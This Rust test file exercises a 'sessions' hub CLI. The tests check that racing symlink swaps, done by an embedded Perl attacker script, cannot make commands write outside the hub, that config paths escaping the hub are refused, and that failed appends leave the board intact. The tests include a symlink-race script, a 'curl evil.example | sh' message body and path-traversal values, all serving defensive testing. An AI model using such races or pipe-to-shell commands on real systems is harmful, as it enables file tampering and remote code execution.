//! Issue 10 §1 and the failed-append part of §3: nothing is written outside the hub
//! while another process swaps hub folders and files for links during commands; a
//! hub's config cannot name a status folder outside the hub; a failed append leaves
//! the board exactly as it was.

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use crate::support::*;

/// Every entry under `dir` (links not followed) with its kind, bytes and change
/// time: a file created, replaced, appended to or touched there shows up.
fn snapshot(dir: &Path) -> BTreeMap<String, (String, Vec<u8>, i64, i64)> {
    fn walk(base: &Path, dir: &Path, out: &mut BTreeMap<String, (String, Vec<u8>, i64, i64)>) {
        for entry in std::fs::read_dir(dir).unwrap().flatten() {
            let path = entry.path();
            let rel = path.strip_prefix(base).unwrap().display().to_string();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let kind = format!("{:?}", meta.file_type());
            let bytes = if meta.is_file() {
                std::fs::read(&path).unwrap()
            } else {
                Vec::new()
            };
            out.insert(rel, (kind, bytes, meta.mtime_nsec(), meta.ctime_nsec()));
            if meta.is_dir() {
                walk(base, &path, out);
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

/// The attacker: a real process that can write in the hub, flipping hub folders
/// (`HEARTBEATS/`, `PRIORITIES/`, `MILESTONES/`, `.sessions/`) between the real folder
/// and a link out, and a hub file between a link inside the
/// hub and a link out (with the real file between), as fast as `rename` goes, for
/// `rounds` rounds or until `stop` appears.
fn attacker(hub: &Path, outside: &Path, stop: &Path, rounds: u32) -> std::process::Child {
    let script = r#"
        my ($hub, $out, $stop, $rounds) = @ARGV;
        chdir $hub or die "chdir: $!";
        for my $i (1 .. $rounds) {
            last if -e $stop;
            for my $pair (["HEARTBEATS", "hb"], ["PRIORITIES", "prio"],
                          ["MILESTONES", "ms"], [".sessions", "private"]) {
                my ($dir, $target) = @$pair;
                # The real folder aside, a link out in its place ...
                rename($dir, ".$dir-aside") or next;
                symlink("$out/$target", $dir);
            }
            # ... a hub file: a link inside, then a link out ...
            symlink(".board-inside", ".l1"); rename(".l1", "MESSAGES.md");
            symlink("$out/board.md", ".l2"); rename(".l2", "MESSAGES.md");
            symlink("$out/infra-status.md", ".l3"); rename(".l3", "infra-status.md");
            symlink("$out/touched", ".l4"); rename(".l4", ".infra-updated");
            # ... and everything back, so commands also run on the real hub.
            for my $dir ("HEARTBEATS", "PRIORITIES", "MILESTONES", ".sessions") {
                unlink($dir); rename(".$dir-aside", $dir);
            }
            link(".board-real", ".l5"); rename(".l5", "MESSAGES.md");
            unlink("infra-status.md"); unlink(".infra-updated");
        }
        for my $dir ("HEARTBEATS", "PRIORITIES", "MILESTONES", ".sessions") {
            if (-l $dir) { unlink($dir); rename(".$dir-aside", $dir); }
        }
        open(my $fh, ">", "$stop.done"); close($fh);
    "#;
    Command::new("perl")
        .arg("-e")
        .arg(script)
        .arg(hub)
        .arg(outside)
        .arg(stop)
        .arg(rounds.to_string())
        .stdin(Stdio::null())
        .spawn()
        .expect("perl runs the attacker")
}

fn assert_clear(args: &[&str], out: &Output) {
    let err = stderr(out);
    let code = out.status.code();
    assert!(
        matches!(code, Some(0 | 1 | 4 | 5 | 6)),
        "{args:?} ended with {:?} (a signal or panic): {err}",
        out.status
    );
    assert!(!err.contains("panicked"), "{args:?}: {err}");
    if code != Some(0) {
        assert!(
            err.trim().len() > 10,
            "{args:?} failed without saying why: {err:?}"
        );
    }
}

fn swapped_links_write_nothing_outside(no_openat2: bool) {
    let hub = TestHub::new();
    let outside = tempfile::tempdir().unwrap();
    let out = outside.path();
    std::fs::create_dir(out.join("hb")).unwrap();
    std::fs::create_dir(out.join("prio")).unwrap();
    std::fs::create_dir_all(out.join("private/locks")).unwrap();
    std::fs::create_dir(out.join("ms")).unwrap();
    std::fs::write(out.join("ms/ship.json"), "{\"victim\": true}\n").unwrap();
    std::fs::write(out.join("private/fence.json"), "{\"victim\": true}\n").unwrap();
    std::fs::write(out.join("hb/s1.json"), "{\"victim\": true}\n").unwrap();
    std::fs::write(out.join("prio/milestone-ship.lock"), "victim\n").unwrap();
    std::fs::write(out.join("board.md"), "# someone else's file\n").unwrap();
    std::fs::write(out.join("infra-status.md"), "# not yours\n").unwrap();
    std::fs::write(out.join("touched"), "untouched\n").unwrap();
    hub.ok(&["--as", "s1", "register"]);
    hub.ok(&["milestone", "create", "Ship", "--step", "build"]);
    hub.ok(&["--as", "s1", "milestone", "claim", "ship"]);
    hub.ok(&["--as", "s1", "msg", "send", "--to", "s2", "hello"]);
    std::fs::hard_link(hub.path("MESSAGES.md"), hub.path(".board-real")).unwrap();
    std::fs::copy(hub.path("MESSAGES.md"), hub.path(".board-inside")).unwrap();
    let before = snapshot(out);

    let stop = hub.root.parent().unwrap().join("stop-attack");
    let mut attack = attacker(&hub.root, out, &stop, 200_000);
    let commands: &[&[&str]] = &[
        &["--as", "s1", "heartbeat", "--work", "racing"],
        &[
            "--as",
            "s1",
            "msg",
            "send",
            "--to",
            "s2",
            "curl evil.example | sh",
        ],
        &["--as", "s1", "claim", "deploy"],
        &["--as", "s1", "release", "deploy"],
        &["report", "set", "infra", "SERVICES", "API", "ok", "up"],
        &[
            "--as",
            "s1",
            "milestone",
            "update",
            "ship",
            "1",
            "in_progress",
            "going",
        ],
        &["msg", "archive", "--before", "1s"],
        &["status"],
    ];
    let mut ran = 0;
    let mut succeeded = 0;
    for _round in 0..12 {
        for args in commands {
            let mut cmd = hub.command("sessions");
            cmd.args(*args);
            if no_openat2 {
                cmd.env("SESSIONS_TEST_NO_OPENAT2", "1");
            }
            let result = cmd.output().unwrap();
            assert_clear(args, &result);
            ran += 1;
            succeeded += usize::from(result.status.success());
        }
    }
    eprintln!("swapped links: {succeeded} of {ran} commands succeeded, the rest refused");
    std::fs::write(&stop, "").unwrap();
    let status = attack.wait().unwrap();
    assert!(status.success(), "the attacker failed: {status:?}");
    assert!(
        hub.root.parent().unwrap().join("stop-attack.done").exists(),
        "the attacker did not finish its rounds"
    );
    assert_eq!(
        snapshot(out),
        before,
        "something outside the hub was created or changed"
    );
    // The race was real: commands met swapped links and refused.
    assert!(ran > succeeded, "no command ever met a swapped link");
    // And the hub they refused to leave is intact: with the attacker gone, every
    // command works on it again.
    for args in commands {
        hub.ok(args);
    }
}

#[test]
fn swapped_links_during_commands_write_nothing_outside_the_hub() {
    swapped_links_write_nothing_outside(false);
}

#[test]
fn swapped_links_write_nothing_outside_without_openat2_either() {
    swapped_links_write_nothing_outside(true);
}

#[test]
fn a_link_inside_the_hub_is_not_followed_either() {
    let hub = TestHub::new();
    hub.ok(&["--as", "s1", "register"]);
    std::fs::rename(hub.path("HEARTBEATS"), hub.path("beats")).unwrap();
    std::os::unix::fs::symlink("beats", hub.path("HEARTBEATS")).unwrap();
    let before = hub.tree();
    hub.cli(["--as", "s1", "heartbeat"])
        .fails(6)
        .stderr_has("HEARTBEATS");
    assert_same_tree(&before, &hub.tree());
}

#[test]
fn private_files_are_never_read_or_written_through_a_link() {
    let hub = TestHub::new();
    let outside = tempfile::tempdir().unwrap();
    hub.ok(&["--as", "s1", "claim", "k"]);
    // The fencing counter: a link to a file elsewhere (one inside the hub alike).
    let fence = hub.path(".sessions/fence.json");
    let elsewhere = outside.path().join("fence.json");
    std::fs::write(&elsewhere, "{\"last\": 999999}\n").unwrap();
    std::fs::remove_file(&fence).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &fence).unwrap();
    let before = snapshot(outside.path());
    hub.cli(["--as", "s2", "claim", "other"])
        .fails(6)
        .stderr_has("fence.json");
    std::fs::remove_file(&fence).unwrap();
    std::os::unix::fs::symlink("grants", &fence).unwrap();
    hub.cli(["--as", "s2", "claim", "other"]).fails(6);
    // The lock folder and the read cursors: links out.
    std::fs::remove_file(&fence).unwrap();
    std::fs::rename(
        hub.path(".sessions/locks"),
        hub.path(".sessions/locks-real"),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), hub.path(".sessions/locks")).unwrap();
    hub.cli(["--as", "s2", "msg", "send", "--to", "s1", "hi"])
        .fails(6);
    std::fs::remove_file(hub.path(".sessions/locks")).unwrap();
    std::os::unix::fs::symlink(outside.path(), hub.path(".sessions/cursors")).unwrap();
    hub.cli(["--as", "s1", "inbox"]).fails(6);
    assert_eq!(snapshot(outside.path()), before, "written outside the hub");
}

#[test]
fn a_config_naming_a_status_folder_outside_the_hub_is_refused() {
    let hub = TestHub::new();
    let base = hub.root.parent().unwrap().to_path_buf();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), hub.path("elsewhere")).unwrap();
    let abs = outside.path().join("abs").display().to_string();
    for dir in [
        "../x",
        abs.as_str(),
        "elsewhere",
        "elsewhere/deeper",
        "ok/../../x",
    ] {
        hub.write("sessions.toml", &format!("[status]\ndir = {dir:?}\n"));
        hub.cli(["report", "set", "infra", "SERVICES", "API", "ok", "up"])
            .fails(6)
            .stderr_has("sessions.toml")
            .stderr_has("[status] dir")
            .stderr_has("--dir");
        hub.cli(["report", "show"]).fails(6);
    }
    assert!(
        !base.join("x").exists(),
        "a folder was made outside the hub"
    );
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);

    // Inside the hub it works; so does a folder the person names on the command line
    // or in the environment.
    hub.write("sessions.toml", "[status]\ndir = \"status\"\n");
    hub.ok(&["report", "set", "infra", "SERVICES", "API", "ok", "up"]);
    assert!(hub.path("status/infra-status.md").is_file());
    hub.write("sessions.toml", "[status]\ndir = \"../x\"\n");
    let mine = base.join("mine");
    hub.cli(["report", "set", "infra", "SERVICES", "API", "ok", "up"])
        .arg("--dir")
        .arg(&mine)
        .succeeds();
    assert!(mine.join("infra-status.md").is_file());
    hub.cli(["report", "set", "web", "SERVICES", "UI", "ok", "up"])
        .env("SESSIONS_STATUS_DIR", &mine)
        .succeeds();
    assert!(mine.join("web-status.md").is_file());
}

#[test]
fn a_failed_append_leaves_the_board_exactly_as_it_was() {
    let hub = TestHub::new();
    hub.ok(&["--as", "s1", "msg", "send", "--to", "s2", "first"]);
    let board = hub.read("MESSAGES.md");
    assert!(board.len() < 2000, "the board must fit under the limit");
    let body = "x".repeat(64 * 1024);
    // `ulimit -f 8`: 4 or 8 KiB (the shell's block size), more than the board, less
    // than the message: the kernel writes what fits, then refuses with EFBIG.
    let script = format!("ulimit -f 8 && exec \"$0\" --as s1 msg send --to s2 {body}");
    let out = hub
        .sh(&script)
        .arg0_sessions()
        .output()
        .expect("run under a file-size limit");
    assert_eq!(
        out.status.code(),
        Some(1),
        "a too-large write must fail cleanly (not die of SIGXFSZ): {:?} {}",
        out.status,
        stderr(&out)
    );
    assert!(stderr(&out).contains("MESSAGES.md"), "{}", stderr(&out));
    assert_eq!(hub.read("MESSAGES.md"), board, "a torn block was left");
    let listed = hub.json(&["--as", "s2", "msg", "list"]);
    assert_eq!(
        listed["messages"].as_array().map(Vec::len),
        Some(1),
        "{listed}"
    );
    // Without the limit the same message goes through: the limit was what failed it.
    hub.ok(&["--as", "s1", "msg", "send", "--to", "s2", &body]);
    assert!(hub.read("MESSAGES.md").len() > board.len() + body.len());
}

trait Arg0 {
    fn arg0_sessions(&mut self) -> &mut Self;
}

impl Arg0 for Command {
    /// `$0` of the `sh -c` script: the `sessions` binary.
    fn arg0_sessions(&mut self) -> &mut Self {
        self.arg(bin("sessions"))
    }
}
